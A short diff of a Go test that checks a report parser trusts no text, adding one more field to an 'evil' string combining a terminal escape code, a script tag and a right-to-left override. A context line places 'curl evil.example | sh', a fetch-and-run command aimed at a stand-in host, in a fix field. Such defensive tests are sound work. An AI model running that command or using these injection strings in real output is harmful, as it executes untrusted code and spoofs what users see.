@@ -120,6 +120,7 @@ func TestParseReportTrustsNoText(t *testing.T) {
 	const evil = "\x1b[31m<script>canary()</script>\u202e"
 	m := reported("CL-03")
 	m["tested_from"], m["future"] = "worker"+evil, map[string]any{"x": evil}
+	m["not_checked"] = []any{"which CAs" + evil}
 	v := at(m, "verdict")
 	v["title"], v["cause"], v["not_wrong"], v["confirm"], v["unseen"] = "canary", "canary", "canary", "canary", "canary"
 	v["fix"] = []any{map[string]any{"who": "developer", "text": "canary", "command": "curl evil.example | sh"}}
